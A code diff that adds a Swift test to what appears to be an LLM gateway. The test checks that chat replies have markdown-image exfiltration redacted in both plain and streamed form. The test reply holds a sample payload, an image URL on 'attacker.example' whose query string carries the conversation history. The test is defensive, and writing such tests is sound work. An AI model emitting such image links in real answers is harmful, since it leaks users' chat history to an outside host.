@@ -262,6 +262,26 @@ import Testing
         }
     }
 
+    @Test func exfiltrationImagesAreRemovedFromPlainAndStreamedAnswers() async throws {
+        let routes = Self.route {
+            $0.outputExfiltration = .redact
+            $0.allowedHosts = ["cdn.example.com"]
+        }
+        let reply = "Here: ![chart](https://attacker.example/c.png?h=THE_HISTORY) and ![logo](https://img.cdn.example.com/l.png) done"
+        let expected = "Here: [REDACTED:MARKDOWN_IMAGE] and ![logo](https://img.cdn.example.com/l.png) done"
+        try await GatewayHarness.run(routes: routes) { h in
+            let plain = try await h.send(.POST, "/v1/chat/completions", body: Self.user("hi"), headers: [("X-Mock-Reply", reply)])
+            #expect(Self.content(plain) == expected)
+            for size in ["1", "6"] {
+                let (sse, id) = try await stream(h, Self.body([["role": "user", "content": "hi"]], stream: true),
+                                                 headers: [("X-Mock-Reply", reply), ("X-Mock-Chunk-Size", size)])
+                #expect(Self.assemble(sse).text == expected, "chunk size \(size)")
+                let record = try #require(try await h.record(id))
+                #expect(record.findings.map(\.type) == ["MARKDOWN_IMAGE"] && record.findings[0].guardName == "exfiltration")
+            }
+        }
+    }
+
     @Test func outputBlockInErrorModeEndsTheStreamWithAnErrorEvent() async throws {
         let routes = Self.route {
             $0.outputSecrets = .block
